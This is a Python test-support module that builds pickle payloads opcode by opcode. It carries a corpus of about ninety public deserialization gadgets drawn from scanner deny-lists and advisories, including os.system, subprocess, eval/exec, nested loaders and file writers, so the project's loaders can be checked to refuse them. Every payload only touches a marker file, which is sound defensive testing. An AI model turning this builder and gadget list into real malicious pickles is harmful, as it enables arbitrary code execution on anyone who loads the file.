"""A corpus of public pickle gadgets, and a builder that assembles their payloads opcode by opcode.

Each :class:`Gadget` is a way to make ``pickle.load`` do something: run a
command, execute Python source, create or write a file, or load a nested
pickle that does one of these. They come from the deny-lists and test corpora
of picklescan, fickling and modelscan, and from advisories published against
them. Every payload here is harmless: its only effect is to create the file (or
directory, link, fifo) ``ctx.marker`` inside a temporary folder, so "the gadget
ran" is ``ctx.fired()``.

Add a gadget by appending to :data:`GADGETS`: tests/test_gadgets.py first proves
it fires under a plain ``pickle.loads`` (in a child process), then checks that
every modelkeep format and ``modelkeep save --model-file`` refuse it.

This module is also run as a script (``python -m tests._gadgets OUTDIR``): it
fires every gadget with plain ``pickle.loads`` and writes which ones worked to
``OUTDIR/results.json``.
"""

from __future__ import annotations

import glob
import json
import os
import pickle
import shlex
import signal
import struct
import sys
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

# -- the payload builder ---------------------------------------------------------------------


@dataclass(frozen=True)
class Glob:
    """A global, written with ``STACK_GLOBAL`` (protocol 4) or, with ``opcode="GLOBAL"``, the text opcode."""

    module: str
    name: str
    opcode: str = "STACK_GLOBAL"


@dataclass(frozen=True)
class Call:
    """``func(*args)``: the ``REDUCE`` opcode."""

    func: Any
    args: tuple[Any, ...] = ()


@dataclass(frozen=True)
class Build:
    """``BUILD``: set ``state`` on ``target`` (``__setstate__``, ``__dict__`` update, or setattr)."""

    target: Any
    state: Any


@dataclass(frozen=True)
class Memo:
    """The ``index``-th prelude value, fetched from the memo with ``BINGET``."""

    index: int


def g(spec: str, opcode: str = "STACK_GLOBAL") -> Glob:
    """``g("os:system")``: the global ``system`` of module ``os`` (the qualname may be dotted)."""
    module, _, name = spec.partition(":")
    return Glob(module, name, opcode)


def call(func: Any, *args: Any) -> Call:
    return Call(func if not isinstance(func, str) else g(func), args)


def _emit(x: Any, out: list[bytes], protocol: int) -> None:
    if isinstance(x, Glob):
        if x.opcode == "GLOBAL" or protocol < 4:
            out.append(b"c" + x.module.encode() + b"\n" + x.name.encode() + b"\n")
        else:
            _emit(x.module, out, protocol)
            _emit(x.name, out, protocol)
            out.append(b"\x93")
    elif isinstance(x, Call):
        _emit(x.func, out, protocol)
        _emit(tuple(x.args), out, protocol)
        out.append(b"R")
    elif isinstance(x, Build):
        _emit(x.target, out, protocol)
        _emit(x.state, out, protocol)
        out.append(b"b")
    elif isinstance(x, Memo):
        out.append(b"h" + bytes([x.index]))
    elif x is None:
        out.append(b"N")
    elif isinstance(x, bool):
        out.append(b"\x88" if x else b"\x89")
    elif isinstance(x, int):
        out.append(b"J" + struct.pack("<i", x))
    elif isinstance(x, float):
        out.append(b"G" + struct.pack(">d", x))
    elif isinstance(x, str):
        data = x.encode()
        out.append(b"X" + struct.pack("<I", len(data)) + data)
    elif isinstance(x, bytes):
        if protocol < 3:
            raise ValueError("bytes need protocol 3 or later")
        out.append(b"B" + struct.pack("<I", len(x)) + x)
    elif isinstance(x, (tuple, list)):
        out.append(b"(")
        for item in x:
            _emit(item, out, protocol)
        out.append(b"t" if isinstance(x, tuple) else b"l")
    elif isinstance(x, dict):
        out.append(b"(")
        for k, v in x.items():
            _emit(k, out, protocol)
            _emit(v, out, protocol)
        out.append(b"d")
    else:
        raise TypeError(f"cannot emit {x!r}")


def assemble(expr: Any, *, prelude: tuple[Any, ...] = (), protocol: int = 4) -> bytes:
    """A pickle that evaluates each ``prelude`` value (kept in the memo for :class:`Memo`), then ``expr``."""
    out = [b"\x80" + bytes([protocol])]
    for i, value in enumerate(prelude):
        _emit(value, out, protocol)
        out.append(b"q" + bytes([i]) + b"0")  # BINPUT i, POP
    _emit(expr, out, protocol)
    out.append(b".")
    return b"".join(out)


# -- the corpus ------------------------------------------------------------------------------


@dataclass(frozen=True)
class Ctx:
    """Where one gadget may leave its mark."""

    folder: Path

    @property
    def marker(self) -> str:
        return str(self.folder / "marker")

    @property
    def sh(self) -> str:
        return f"touch {shlex.quote(self.marker)}"

    @property
    def py(self) -> str:
        return f"open({self.marker!r}, 'w').close()"

    @property
    def nested(self) -> bytes:
        """A plain pickle that creates the marker: what nested loaders are fed."""
        return assemble(call("os:system", self.sh))

    @property
    def nested_path(self) -> str:
        return str(self.folder / "nested.pkl")

    def setup(self) -> None:
        self.folder.mkdir(parents=True, exist_ok=True)
        Path(self.nested_path).write_bytes(self.nested)
        (self.folder / "empty").mkdir(exist_ok=True)

    def fired(self) -> bool:
        return os.path.lexists(self.marker) or bool(glob.glob(self.marker + "?*"))


@dataclass(frozen=True)
class Gadget:
    """One public gadget: ``build(ctx)`` is the payload's expression (see :func:`assemble`)."""

    id: str
    build: Callable[[Ctx], Any]
    prelude: Callable[[Ctx], tuple[Any, ...]] = field(default=lambda ctx: ())
    protocol: int = 4
    asynchronous: bool = False  # the effect happens in a child process, shortly after the load

    def payload(self, ctx: Ctx) -> bytes:
        return assemble(self.build(ctx), prelude=self.prelude(ctx), protocol=self.protocol)


def _file_writer(spec: str, *extra: Any) -> Callable[[Ctx], Any]:
    return lambda ctx: call(spec, ctx.marker, *extra)


_PATHLIB_OS = Glob("pathlib", "os", "GLOBAL")  # a module object, fetched by name
_EMPTY_ARRAY = call("numpy._core.multiarray:_reconstruct", g("numpy:ndarray"), (0,), b"b")

GADGETS: list[Gadget] = [
    # commands
    Gadget("os.system", lambda c: call("os:system", c.sh)),
    Gadget("posix.system", lambda c: call("posix:system", c.sh)),
    Gadget("subprocess.call", lambda c: call("subprocess:call", ["touch", c.marker])),
    Gadget("subprocess.run", lambda c: call("subprocess:run", ["touch", c.marker])),
    Gadget("subprocess.check_call", lambda c: call("subprocess:check_call", ["touch", c.marker])),
    Gadget("subprocess.check_output", lambda c: call("subprocess:check_output", ["touch", c.marker])),
    Gadget("subprocess.Popen", lambda c: call("subprocess:Popen", ["touch", c.marker]), asynchronous=True),
    Gadget("subprocess.getoutput", lambda c: call("subprocess:getoutput", c.sh)),
    Gadget("subprocess.getstatusoutput", lambda c: call("subprocess:getstatusoutput", c.sh)),
    Gadget("os.popen", lambda c: call("os:popen", c.sh), asynchronous=True),
    Gadget("os.spawnlp", lambda c: call("os:spawnlp", 0, "touch", "touch", c.marker)),
    Gadget("os.posix_spawnp", lambda c: call("os:posix_spawnp", "touch", ["touch", c.marker], {}), asynchronous=True),
    Gadget("pydoc.pipepager", lambda c: call("pydoc:pipepager", "x", c.sh)),
    Gadget("uuid._get_command_stdout", lambda c: call("uuid:_get_command_stdout", "touch", c.marker)),
    Gadget("imaplib.IMAP4_stream", lambda c: call("imaplib:IMAP4_stream", c.sh)),
    # Python source
    Gadget("builtins.eval", lambda c: call("builtins:eval", c.py)),
    Gadget("builtins.exec", lambda c: call("builtins:exec", c.py)),
    Gadget(
        "builtins.compile",
        lambda c: call("builtins:eval", Memo(0)),
        prelude=lambda c: (call("builtins:compile", c.py, "<p>", "exec"),),
    ),
    Gadget(
        "builtins.__import__",
        lambda c: call(call("operator:methodcaller", "system", c.sh), Memo(0)),
        prelude=lambda c: (call("builtins:__import__", "os"),),
    ),
    Gadget(
        "importlib.import_module",
        lambda c: call(call("operator:methodcaller", "system", c.sh), Memo(0)),
        prelude=lambda c: (call("importlib:import_module", "os"),),
    ),
    Gadget("builtins.getattr", lambda c: call(call("builtins:getattr", _PATHLIB_OS, "system"), c.sh)),
    Gadget("__builtin__.eval (protocol 2)", lambda c: call(Glob("__builtin__", "eval", "GLOBAL"), c.py), protocol=2),
    Gadget("doctest.debug_script", lambda c: call("doctest:debug_script", c.py, True)),
    Gadget(
        "idlelib.calltip.get_entity", lambda c: call("idlelib.calltip:get_entity", f"__import__('os').system({c.sh!r})")
    ),
    Gadget("runpy._run_code", lambda c: call("runpy:_run_code", c.py, {})),
    Gadget(
        "code.InteractiveInterpreter.runsource",
        lambda c: call("code:InteractiveInterpreter.runsource", call("code:InteractiveInterpreter"), c.py),
    ),
    Gadget("timeit.timeit", lambda c: call("timeit:timeit", c.py, "pass", g("time:perf_counter"), 1)),
    Gadget("timeit.repeat", lambda c: call("timeit:repeat", c.py, "pass", g("time:perf_counter"), 1, 1)),
    Gadget("cProfile.run", lambda c: call("cProfile:run", c.py)),
    Gadget("profile.run", lambda c: call("profile:run", c.py)),
    Gadget("trace.Trace.runctx", lambda c: call("trace:Trace.runctx", call("trace:Trace", 0, 0), c.py, {}, {})),
    Gadget("bdb.Bdb.run", lambda c: call("bdb:Bdb.run", call("bdb:Bdb"), c.py)),
    Gadget(
        "numpy.testing._private.utils.runstring", lambda c: call("numpy.testing._private.utils:runstring", c.py, {})
    ),
    Gadget(
        "logging.config.dictConfig",
        lambda c: call(
            "logging.config:dictConfig",
            {"version": 1, "handlers": {"h": {"class": "logging.FileHandler", "filename": c.marker}}},
        ),
    ),
    # nested pickles, under other names
    Gadget("pickle.loads", lambda c: call("pickle:loads", c.nested)),
    Gadget("_pickle.loads", lambda c: call("_pickle:loads", c.nested)),
    Gadget("pickle._loads", lambda c: call("pickle:_loads", c.nested)),
    Gadget("loky reduction.loads", lambda c: call("joblib.externals.loky.backend.reduction:loads", c.nested)),
    Gadget(
        "lib2to3 Grammar.loads",
        lambda c: call("lib2to3.pgen2.grammar:Grammar.loads", call("lib2to3.pgen2.grammar:Grammar"), c.nested),
    ),
    Gadget("numpy.lib._npyio_impl.load", lambda c: call("numpy.lib._npyio_impl:load", c.nested_path, None, True)),
    Gadget("numpy.load", lambda c: call("numpy:load", c.nested_path, None, True)),
    Gadget("pandas.io.api.read_pickle", lambda c: call("pandas.io.api:read_pickle", c.nested_path)),
    Gadget("pandas.read_pickle", lambda c: call("pandas:read_pickle", c.nested_path)),
    Gadget("joblib.numpy_pickle.load", lambda c: call("joblib.numpy_pickle:load", c.nested_path)),
    Gadget("joblib.load", lambda c: call("joblib:load", c.nested_path)),
    Gadget("torch.storage._load_from_bytes", lambda c: call("torch.storage:_load_from_bytes", c.nested)),
    # attribute walks and module objects
    Gadget("_operator.attrgetter", lambda c: call(call(call("_operator:attrgetter", "system"), _PATHLIB_OS), c.sh)),
    Gadget("operator.attrgetter", lambda c: call(call(call("operator:attrgetter", "system"), _PATHLIB_OS), c.sh)),
    Gadget("_operator.methodcaller", lambda c: call(call("_operator:methodcaller", "system", c.sh), _PATHLIB_OS)),
    Gadget("operator.methodcaller", lambda c: call(call("operator:methodcaller", "system", c.sh), _PATHLIB_OS)),
    Gadget("('pathlib', 'os.system')", lambda c: call("pathlib:os.system", c.sh)),
    Gadget("('tempfile', '_os.system')", lambda c: call("tempfile:_os.system", c.sh)),
    Gadget("('logging', 'os.system')", lambda c: call("logging:os.system", c.sh)),
    Gadget(
        "module object via STACK_GLOBAL",
        lambda c: call(Memo(0), g("pathlib:os")),
        prelude=lambda c: (call("operator:methodcaller", "system", c.sh),),
    ),
    Gadget("pathlib.Path.touch", lambda c: call("pathlib:Path.touch", call("pathlib:Path", c.marker))),
    Gadget("pathlib.Path.write_text", lambda c: call("pathlib:Path.write_text", call("pathlib:Path", c.marker), "x")),
    Gadget("numpy.ndarray.tofile", lambda c: call("numpy:ndarray.tofile", _EMPTY_ARRAY, c.marker)),
    Gadget("pandas.DataFrame.to_csv", lambda c: call("pandas:DataFrame.to_csv", call("pandas:DataFrame"), c.marker)),
    Gadget(
        "pandas.DataFrame.to_pickle", lambda c: call("pandas:DataFrame.to_pickle", call("pandas:DataFrame"), c.marker)
    ),
    # files created or written
    Gadget("builtins.open", _file_writer("builtins:open", "w")),
    Gadget("io.open", _file_writer("io:open", "w")),
    Gadget("_io.open", _file_writer("_io:open", "w")),
    Gadget("io.FileIO", _file_writer("io:FileIO", "w")),
    Gadget("_io.FileIO", _file_writer("_io:FileIO", "w")),
    Gadget("codecs.open", _file_writer("codecs:open", "w")),
    Gadget("os.open", _file_writer("os:open", os.O_CREAT | os.O_WRONLY)),
    Gadget("os.mkdir", _file_writer("os:mkdir")),
    Gadget("os.makedirs", _file_writer("os:makedirs")),
    Gadget("os.mkfifo", _file_writer("os:mkfifo")),
    Gadget("os.symlink", lambda c: call("os:symlink", "/nonexistent-target", c.marker)),
    Gadget("logging.FileHandler", _file_writer("logging:FileHandler")),
    Gadget("logging.handlers.RotatingFileHandler", _file_writer("logging.handlers:RotatingFileHandler")),
    Gadget("logging.handlers.WatchedFileHandler", _file_writer("logging.handlers:WatchedFileHandler")),
    Gadget("sqlite3.connect", _file_writer("sqlite3:connect")),
    Gadget("shelve.open", _file_writer("shelve:open")),
    Gadget("dbm.open", _file_writer("dbm:open", "c")),
    Gadget("zipfile.ZipFile", _file_writer("zipfile:ZipFile", "w")),
    Gadget("tarfile.open", _file_writer("tarfile:open", "w")),
    Gadget("gzip.open", _file_writer("gzip:open", "wb")),
    Gadget("bz2.open", _file_writer("bz2:open", "wb")),
    Gadget("lzma.open", _file_writer("lzma:open", "wb")),
    Gadget("wave.open", _file_writer("wave:open", "wb")),
    Gadget("shutil.copyfile", lambda c: call("shutil:copyfile", os.devnull, c.marker)),
    Gadget("shutil.copy", lambda c: call("shutil:copy", os.devnull, c.marker)),
    Gadget("shutil.make_archive", lambda c: call("shutil:make_archive", c.marker, "zip", str(c.folder / "empty"))),
    Gadget("tempfile.mkstemp", lambda c: call("tempfile:mkstemp", "", "marker", str(c.folder))),
    Gadget("tempfile.mkdtemp", lambda c: call("tempfile:mkdtemp", "", "marker", str(c.folder))),
    Gadget("py_compile.compile", lambda c: call("py_compile:compile", os.devnull, c.marker)),
    Gadget("venv.create", _file_writer("venv:create")),
    Gadget("numpy.save", _file_writer("numpy:save", [1, 2])),
    Gadget("numpy.savetxt", _file_writer("numpy:savetxt", [1, 2])),
    Gadget("numpy.memmap", _file_writer("numpy:memmap", "uint8", "w+", 0, (1,))),
    Gadget("torch.save", lambda c: call("torch:save", [1], c.marker)),
]


def gadget_globals(payload: bytes) -> list[str]:
    """Every ``module.name`` a payload references (what an attacker would record as its globals)."""
    from modelkeep.formats._restricted import scan_pickle_globals

    found = scan_pickle_globals(payload)
    assert found is not None
    return found


def _fire_all(out: Path) -> None:
    """Run every gadget with plain ``pickle.loads``; record which created their marker."""
    results: dict[str, bool | str] = {}
    signal.signal(signal.SIGALRM, lambda *_: (_ for _ in ()).throw(TimeoutError("gadget timed out")))
    for i, gadget in enumerate(GADGETS):
        ctx = Ctx(out / f"g{i}")
        ctx.setup()
        signal.alarm(120)
        try:
            pickle.loads(gadget.payload(ctx))
        except BaseException as exc:  # many gadgets raise after doing their work (IMAP4_stream, Grammar.loads)
            if isinstance(exc, TimeoutError):
                results[gadget.id] = "timeout"
                continue
        finally:
            signal.alarm(0)
        deadline = time.monotonic() + (5 if gadget.asynchronous else 0)
        while not ctx.fired() and time.monotonic() < deadline:
            time.sleep(0.05)
        results[gadget.id] = ctx.fired()
    (out / "results.json").write_text(json.dumps(results))


if __name__ == "__main__":
    folder = Path(sys.argv[1])
    os.chdir(folder)
    _fire_all(folder)
    os._exit(0)  # skip atexit and finalizers of whatever the gadgets left behind
